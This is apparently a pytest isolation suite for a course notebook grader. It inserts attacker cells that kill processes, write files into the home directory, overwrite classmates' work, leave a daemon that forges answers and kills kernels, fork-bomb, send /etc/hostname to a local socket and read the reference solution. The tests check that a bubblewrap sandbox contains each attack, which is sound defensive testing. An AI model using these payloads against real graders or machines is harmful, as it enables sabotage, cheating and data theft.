"""The isolation suite: attacks on the machine, the grader and the classmates, each built
from the released chapter 4 and graded by ``python -m mlpcourse grade`` (a process of its
own, as an instructor runs it) in a class beside honest submissions. Each must be
harmless: the run finishes with exit 0, every honest student's verdicts equal those of
the same class graded without the attackers, no file outside the gradebook folder
changes, nothing of an attacker is read or received, and no process of the run is left.

And the crash test: the grader killed with SIGKILL in the middle of a class, the same
command run again: no notebook lost, none graded twice, and the gradebook equal to that
of an uninterrupted run."""

import csv
import hashlib
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from mlpcourse import course, gradebook
from mlpcourse.grade import course_version
from mlpcourse.kernel import sandbox_problem
from mlpcourse.samples import submission
from mlpcourse.statuses import passes

# CI installs bubblewrap (.ci/run): there a missing sandbox fails the suite instead of skipping it
pytestmark = pytest.mark.skipif(bool(sandbox_problem()) and not os.environ.get("CI"),
                                reason=f"no sandbox here: {sandbox_problem()}")

CH = "04_forward_pass"  # the attacks are on the grader, not the chapter; chapter 4 runs in under a second
LABELS = course.chapter(CH).checked
MARKER = "mlpcourse-attack-" + os.urandom(4).hex()  # in the argv of every process an attacker leaves behind
LIMITS = ["--timeout", "5", "--total-timeout", "90", "--memory", "2", "--seed", "11", "--no-progress"]
HONEST = {"honest-solved": "solved", "honest-wrong": "wrong", "honest-untouched": "untouched",
          "honest-solved-2": "solved"}

# a process that outlives its cell (fork, setsid, fork, exec) and, for a minute, tries to reach the
# other kernels: it forges their answers' files and kills every other kernel it can see
DAEMON = """
import glob, json, os, sys, time
kernel, tmp = int(sys.argv[1]), sys.argv[2]
end = time.time() + 60
while time.time() < end:
    for path in glob.glob("/tmp/mlpcourse-kernel-*/*.answer.json") + glob.glob(tmp + "/mlpcourse-kernel-*/*.json"):
        try:
            with open(path, "w") as f:
                json.dump({"kind": "unavailable", "raised": ["Sabotaged", "by a classmate"]}, f)
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (os.getpid(), kernel):
            try:
                if b"ipykernel" in open(f"/proc/{pid}/cmdline", "rb").read():
                    os.kill(int(pid), 9)
            except OSError:
                pass
    time.sleep(0.05)
time.sleep(3600)
"""


def _attacks(paths, port):
    """name -> code of the cell an attacker puts at the top of the released chapter 4."""
    targets = [str(paths["home"] / f".{MARKER}"), str(paths["cwd"] / MARKER), str(paths["grades"] / MARKER),
               str(paths["instructor"] / MARKER)]
    book = str(course.book_dir() / f"{CH}.ipynb")
    return {
        "kills its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
                            "    if int(pid) not in (os.getpid(), 1):\n"
                            "        try:\n            os.kill(int(pid), signal.SIGKILL)\n"
                            "        except OSError:\n            pass",
        "writes outside its folder": f"import pathlib\nfor p in {targets!r}:\n    try:\n"
                                     "        pathlib.Path(p).write_text('echo pwned')\n    except OSError:\n"
                                     "        pass\n"
                                     "import pwd, os\nhome = pwd.getpwuid(os.getuid()).pw_dir\n"
                                     f"open(os.path.join(home, '.{MARKER}-bashrc'), 'w').write('echo pwned')",
        "overwrites the class": f"import pathlib, shutil\nfor p in pathlib.Path({str(paths['class'])!r}).rglob("
                                "'*.ipynb'):\n    try:\n        p.write_text('{}')\n    except OSError:\n        pass\n"
                                f"for p in pathlib.Path({str(paths['grades'])!r}).glob('*'):\n    try:\n"
                                "        p.write_bytes(b'')\n    except OSError:\n        pass",
        "leaves a daemon": "import os, sys\nkernel = os.getpid()\nif os.fork() == 0:\n    os.setsid()\n"
                           "    if os.fork() == 0:\n"
                           f"        os.execv(sys.executable, [sys.executable, '-c', {DAEMON!r}, str(kernel), "
                           f"{str(paths['tmp'])!r}, {MARKER!r}])\n    os._exit(0)\nimport time\ntime.sleep(2)",
        "fork bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "opens a connection": "import socket\ntry:\n"
                              f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
                              "    s.sendall(b'stolen: ' + open('/etc/hostname', 'rb').read())\nexcept OSError:\n"
                              "    pass",
        "reads the reference": "import json, re\n"
                               f"nb = json.load(open({book!r}))\n"
                               "src = [''.join(c['source']) for c in nb['cells'] if 'def forward(W_list' in "
                               "''.join(c['source']) and 'BEGIN SOLUTION' in ''.join(c['source'])][0]\n"
                               "exec(src)",
    }


def _tree(root, skip):
    """{path: sha256} of every file under ``root``, folders in ``skip`` left out."""
    out = {}
    for path in sorted(Path(root).rglob("*")):
        if path.is_file() and not any(s == path or s in path.parents for s in skip):
            out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _processes_mentioning(*needles):
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if any(n in cmdline for n in needles) and int(pid) != os.getpid():
                found.append((int(pid), cmdline[:200]))
    return found


def _left_after(seconds, *needles):
    """The processes that still mention ``needles`` after up to ``seconds`` (namespaces take a moment to end)."""
    deadline = time.monotonic() + seconds
    while True:
        left = _processes_mentioning(*needles)
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.2)


def _grade(folder, out, tmp, *extra, wait=True):
    """``python -m mlpcourse grade`` in a process of its own, its temporary folders (the kernels') in ``tmp``."""
    env = {**os.environ, "TMPDIR": str(tmp)}
    cmd = [sys.executable, "-m", "mlpcourse", "grade", str(folder), "--out", str(out), "--jobs", "2",
           "--chapters", CH, *LIMITS, *extra]
    if not wait:
        return subprocess.Popen(cmd, env=env, cwd=tmp.parent / "cwd", stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL)
    return subprocess.run(cmd, env=env, cwd=tmp.parent / "cwd", capture_output=True, text=True, timeout=900)


def _rows(out):
    with open(Path(out) / "grades.csv", newline="") as f:
        return {(r["student"], r["exercise"]): (r["status"], r["detail"]) for r in csv.DictReader(f)}


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port, self.received, self.done = self.sock.getsockname()[1], [], threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.done.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(1000) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self):
        self.done.set()
        self.thread.join()
        self.sock.close()


def _write_class(folder, notebooks):
    for student, nb in notebooks.items():
        (folder / student / "homework").mkdir(parents=True)
        nbformat.write(nb, folder / student / "homework" / f"{CH}.ipynb")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """The class with every attacker beside the honest students, and the honest students alone, graded."""
    root = tmp_path_factory.mktemp("isolation")
    paths = {name: root / name for name in ("class", "alone", "grades", "grades-alone", "cwd", "tmp", "instructor")}
    for name in ("cwd", "tmp", "instructor"):
        paths[name].mkdir()
    (paths["instructor"] / "secret.txt").write_text("the exam's answers")
    paths["home"] = Path.home()
    honest = {student: submission(CH, kind) for student, kind in HONEST.items()}
    listener = Listener()
    attackers, names = {}, {}
    for k, (name, code) in enumerate(_attacks(paths, listener.port).items()):
        nb = submission(CH, "untouched")
        nb.cells.insert(1, new_code_cell(code))
        attackers[f"attacker{k}"] = nb
        names[f"attacker{k}"] = name
    _write_class(paths["class"], {**attackers, **honest})
    _write_class(paths["alone"], honest)
    before = _tree(root, skip=[paths["grades"], paths["grades-alone"], paths["tmp"]])
    fingerprint = course_version()[0]
    try:
        result = _grade(paths["class"], paths["grades"], paths["tmp"])
        left = _left_after(10, MARKER, str(paths["tmp"]))
        alone = _grade(paths["alone"], paths["grades-alone"], paths["tmp"])
    finally:
        listener.close()
    yield {"root": root, "paths": paths, "names": names, "result": result, "alone": alone, "left": left,
           "before": before, "after": _tree(root, skip=[paths["grades"], paths["grades-alone"], paths["tmp"]]),
           "fingerprint": (fingerprint, course_version()[0]), "received": listener.received}
    for pid, _ in _processes_mentioning(MARKER):  # only if a test below failed
        os.kill(pid, signal.SIGKILL)
    for path in Path.home().glob(f".{MARKER}*"):
        path.unlink()


def test_the_run_finishes_and_says_it_used_the_sandbox(attacked):
    result = attacked["result"]
    assert result.returncode == 0, result.stdout + result.stderr
    assert "isolation: bubblewrap sandbox" in result.stdout.splitlines()[-1]
    assert "bubblewrap sandbox" in (attacked["paths"]["grades"] / "report.html").read_text()
    db = sqlite3.connect(attacked["paths"]["grades"] / "gradebook.db")
    assert db.execute("SELECT isolation, outcome FROM runs").fetchall() == [("bubblewrap", "finished")]
    assert {r[0] for r in db.execute("SELECT isolation FROM submissions")} == {"bubblewrap"}


def test_honest_verdicts_equal_those_of_the_class_without_attackers(attacked):
    assert attacked["alone"].returncode == 0, attacked["alone"].stderr
    rows, alone = _rows(attacked["paths"]["grades"]), _rows(attacked["paths"]["grades-alone"])
    honest = {key: value for key, value in rows.items() if key[0] in HONEST}
    assert honest == alone
    # the solved students pass (passed, or flagged: the book's solution pasted), the others fail or have not tried
    assert {"passed" if passes(status) else status for status, _ in alone.values()} >= {"passed", "failed",
                                                                                          "not attempted"}


def test_no_attacker_passes_anything(attacked):
    rows = _rows(attacked["paths"]["grades"])
    for student, name in attacked["names"].items():
        for label in LABELS:
            assert rows[(student, label)][0] not in ("passed", "flagged"), (name, label, rows[(student, label)])
    reader = next(s for s, n in attacked["names"].items() if n == "reads the reference")
    status, detail = rows[(reader, LABELS[0])]
    assert status == "not attempted", (status, detail)  # its cell failed: the book is not there to read


def test_no_file_outside_the_gradebook_changed(attacked):
    assert attacked["before"] == attacked["after"]
    assert attacked["fingerprint"][0] == attacked["fingerprint"][1]  # the course's own files
    assert not list(Path.home().glob(f".{MARKER}*"))
    grades = attacked["paths"]["grades"]
    assert not (grades / MARKER).exists()
    assert sqlite3.connect(grades / "gradebook.db").execute("SELECT count(*) FROM submissions").fetchone()[0] == 11


def test_nothing_reached_the_network(attacked):
    assert attacked["received"] == []


def test_no_process_of_the_run_is_left(attacked):
    assert attacked["left"] == []


def test_a_fork_bomb_costs_only_its_own_exercises(attacked):
    rows = _rows(attacked["paths"]["grades"])
    bomber = next(s for s, n in attacked["names"].items() if n == "fork bomb")
    assert {rows[(bomber, label)][0] for label in LABELS} <= {"timed out", "error"}


# the crash test ---------------------------------------------------------------------------------


def _submissions(db_path):
    db = sqlite3.connect(db_path)
    try:
        return db.execute("SELECT student, chapter, digest FROM submissions").fetchall()
    except sqlite3.OperationalError:  # the file is there, its tables not yet: the grader is starting
        return []
    finally:
        db.close()


def test_a_grader_killed_mid_class_resumes_without_losing_or_repeating_a_notebook(attacked):
    paths, tmp = attacked["paths"], attacked["paths"]["tmp"]
    out = attacked["root"] / "grades-crash"
    db = out / "gradebook.db"
    run = _grade(paths["alone"], out, tmp, wait=False)
    try:
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline and run.poll() is None:
            if db.exists() and len(_submissions(db)) >= 1:
                break
            time.sleep(0.05)  # a notebook of chapter 4 takes about a second: kill soon after the first
        assert run.poll() is None, "the run ended before it could be killed"
    finally:
        run.send_signal(signal.SIGKILL)
        run.wait()
    kept = _submissions(db)
    assert 1 <= len(kept) < len(HONEST)
    assert _left_after(10, str(tmp)) == []  # its kernels died with it
    again = _grade(paths["alone"], out, tmp)
    assert again.returncode == 0, again.stderr
    # the killed grader's cgroups (root only, where the machine has them) are gone with the next run
    assert not [p for kind in ("pids", "cpu") for p in Path("/sys/fs/cgroup", kind).glob(f"mlpcourse-{run.pid}-*")]
    assert f"took {len(kept)} from the gradebook" in again.stdout
    every = _submissions(db)
    assert sorted((s, c) for s, c, _ in every) == sorted((s, CH) for s in HONEST)  # each once, none lost
    assert _rows(out) == _rows(paths["grades-alone"])
    outcomes = [r[0] for r in sqlite3.connect(db).execute("SELECT outcome FROM runs ORDER BY id")]
    assert outcomes == [gradebook.KILLED, "finished"]  # the killed run could not say how it ended; the next did


BUSY = """
import os, resource, time
children = []
for _ in range(2):  # two processes, each spinning for a second of wall-clock time
    pid = os.fork()
    if pid == 0:
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            pass
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
used = resource.getrusage(resource.RUSAGE_CHILDREN)
open("cpu.txt", "w").write(str(used.ru_utime + used.ru_stime))
"""


@pytest.mark.skipif(os.geteuid() != 0 or not Path("/sys/fs/cgroup/cpu/cgroup.procs").is_file(),
                    reason="the processor limit is a cgroup v1 cpu cgroup, made by root")
def test_a_kernel_gets_at_most_one_processor():
    from mlpcourse.kernel import Sandbox

    with Sandbox(memory_gib=1) as sandbox:
        (cpu,) = [p for p in sandbox.cgroup.paths if p.parent.name == "cpu"]
        assert (cpu / "cpu.cfs_quota_us").read_text().strip() == (cpu / "cpu.cfs_period_us").read_text().strip()
        assert len((cpu / "cgroup.procs").read_text().split()) >= 3  # the guardian, bwrap, the kernel
        assert sandbox.run(BUSY, 20).status == "ok"
        used = float((sandbox.dir / "cpu.txt").read_text())
    # two busy processes for a second: two processor-seconds where they may, at most one here
    assert 0.3 < used < 1.25, used
    assert not cpu.exists()  # removed with the kernel


# what a kernel in the sandbox holds, written to its folder: its credentials, its open descriptors, the
# processes it sees, the environment it was started with (the zygote's, which forked it)
HOLDINGS = """
import json, os
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
fds = {}
for fd in os.listdir("/proc/self/fd"):
    try:
        fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:  # the descriptor listdir itself used
        pass
json.dump({"status": {k: v.strip() for k, v in status.items()}, "fds": fds, "me": os.getpid(),
           "processes": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
           "environ": [v.split("=", 1)[0] for v in open("/proc/self/environ").read().split("\\0") if v]},
          open("holdings.json", "w"))
"""


def test_a_kernel_holds_no_privilege_descriptor_or_process_of_the_graders():
    """The kernel is forked by the zygote, a process of the grader's outside the sandbox, and joins the
    sandbox: it must hold nothing of the outside when the student's first cell runs."""
    from mlpcourse.kernel import Sandbox, _environment

    with Sandbox(memory_gib=1) as sandbox:
        assert sandbox.run(HOLDINGS, 20).status == "ok"
        held = json.loads((sandbox.dir / "holdings.json").read_text())
    status = held["status"]
    assert all(int(status[k], 16) == 0 for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")), status
    assert status["NoNewPrivs"] == "1"
    assert status["Uid"].split() == status["Gid"].split() == ["1000"] * 4  # the student, in every id
    # stdin on /dev/null; the rest is /dev/null or ipykernel's own: sockets, pipes (it captures stdout and
    # stderr), event fds. No file, and nothing of the zygote's
    assert held["fds"]["0"] == "/dev/null"
    assert all(target == "/dev/null" or target.startswith(("socket:", "pipe:", "anon_inode:"))
               for target in held["fds"].values()), held["fds"]
    # the sandbox's first process, its placeholder, and the kernel: none of the grader's, none of a classmate's
    assert held["processes"] == [1, 2, held["me"]], held["processes"]
    assert set(held["environ"]) <= set(_environment(Path("/"))), held["environ"]


def test_a_kernel_is_never_started_outside_a_sandbox(monkeypatch):
    """Given a process that is not in a sandbox as the placeholder (what a mistake in finding the
    placeholder would give), the zygote's launcher refuses, and the grader says why."""
    from mlpcourse import kernel

    outside = subprocess.Popen(["sleep", "60"])
    try:
        monkeypatch.setattr(kernel.Sandbox, "_placeholder", lambda self: (outside.pid, kernel._started(outside.pid)))
        with pytest.raises(RuntimeError, match="the placeholder is not in a sandbox of its own"):
            with kernel.Sandbox(memory_gib=1, startup_timeout=30):
                pass
        assert outside.poll() is None  # and it is left alone
    finally:
        outside.kill()
        outside.wait()


def test_a_machine_where_no_process_may_join_a_sandbox_is_told_so(monkeypatch):
    """sandbox_problem tries the zygote's join on a sandbox made for the purpose: where a security module
    forbids setns (here, a join that fails as it would), grade is told why before any notebook runs."""
    from mlpcourse import kernel

    assert kernel._join_problem() == ""
    failing = kernel.JOIN.replace("def join(target, started_at):\n",
                                  "def join(target, started_at):\n    raise PermissionError('setns: forbidden')\n")
    monkeypatch.setattr(kernel, "JOIN", failing)
    assert kernel._join_problem() == ("a process cannot join the sandbox that bubblewrap made here "
                                      "(PermissionError: setns: forbidden)")


def test_one_zygote_serves_the_kernels_and_a_new_one_replaces_it_when_it_is_gone():
    from mlpcourse.kernel import Sandbox, _Zygote

    pids = []
    for kill in (False, True, False):
        with Sandbox(memory_gib=1) as sandbox:
            assert sandbox.run("import numpy, mlpcore\nx = numpy.ones(3).sum()", 20).status == "ok"
        pids.append(_Zygote.process.pid)
        if kill:
            _Zygote.process.kill()
            _Zygote.process.wait()
    assert pids[0] == pids[1] != pids[2]


def test_without_bubblewrap_grade_refuses_and_names_the_package(tmp_path):
    (tmp_path / "cwd").mkdir()
    env = {"PATH": str(Path(sys.executable).parent), "HOME": str(tmp_path)}
    (tmp_path / "class" / "s1").mkdir(parents=True)
    nbformat.write(submission(CH, "untouched"), tmp_path / "class" / "s1" / f"{CH}.ipynb")
    result = subprocess.run([sys.executable, "-m", "mlpcourse", "grade", str(tmp_path / "class"), "--out",
                             str(tmp_path / "g")], env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode == 2
    assert "bubblewrap is not installed" in result.stderr and "--no-sandbox" in result.stderr
    assert not (tmp_path / "g").exists()
    checked = subprocess.run([sys.executable, "-m", "mlpcourse", "check", str(tmp_path / "class" / "s1" / f"{CH}.ipynb"),
                              "--timeout", "30"], env=env, capture_output=True, text=True, timeout=300)
    assert "note: kernels run without the sandbox: bubblewrap is not installed" in checked.stdout
    assert "0 passed, 0 failed, 4 not attempted" in checked.stdout, checked.stdout + checked.stderr


def test_grade_records_each_run(attacked):
    db = sqlite3.connect(attacked["paths"]["grades"] / "gradebook.db")
    (started, ended, commit, seed, limits, jobs, graded, reused), = db.execute(
        "SELECT started, ended, commit_id, seed, limits, jobs, graded, reused FROM runs").fetchall()
    assert started <= ended and seed == 11 and jobs == 2 and graded == 11 and reused == 0
    assert json.loads(limits) == {"cell": 5.0, "total": 90.0, "memory": 2.0}
    assert commit


def test_ctrl_c_ends_the_kernels_keeps_what_was_graded_and_says_how_to_resume(attacked):
    paths, tmp = attacked["paths"], attacked["paths"]["tmp"]
    out = attacked["root"] / "grades-ctrl-c"
    # six notebooks graded two at a time, in the order of their folders' names, with sleeping cells (no
    # processor time; each within the 5 s limit per cell): two seconds in the first two, 36 in the other
    # four, so that the interrupt, sent once the first is in the gradebook, finds kernels running and
    # notebooks left however late it comes (with six of two seconds, a loaded machine once graded all six
    # before it); the interrupt ends their sleep
    slow, notebooks = attacked["root"] / "slow-class", {}
    for k in range(6):
        notebooks[f"slow{k}"] = nb = submission(CH, "solved")
        for _ in range(1 if k < 2 else 12):
            nb.cells.insert(1, new_code_cell(f"import time\ntime.sleep({2 if k < 2 else 3})"))
    _write_class(slow, notebooks)
    env = {**os.environ, "TMPDIR": str(tmp)}
    # the grader starts with SIGINT at its default, as from a terminal, however the suite was started: a shell
    # starts a background job with SIGINT ignored, and a child keeps it so (a handler, unlike SIG_IGN, is not
    # inherited across exec)
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        run = subprocess.Popen([sys.executable, "-m", "mlpcourse", "grade", str(slow), "--out", str(out),
                                "--jobs", "2", "--chapters", CH, *LIMITS], env=env, cwd=paths["cwd"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    finally:
        signal.signal(signal.SIGINT, previous)
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and not ((out / "gradebook.db").exists() and _submissions(out / "gradebook.db")):
        time.sleep(0.05)
    run.send_signal(signal.SIGINT)
    stdout, stderr = run.communicate(timeout=120)
    assert run.returncode == 130, stdout + stderr
    assert "interrupted" in stderr and "run the same command again to resume" in stderr
    assert _left_after(10, str(tmp)) == []
    db = sqlite3.connect(out / "gradebook.db")
    (outcome, graded), = db.execute("SELECT outcome, graded FROM runs").fetchall()
    assert outcome == "interrupted" and 6 > graded == len(_submissions(out / "gradebook.db")) >= 1
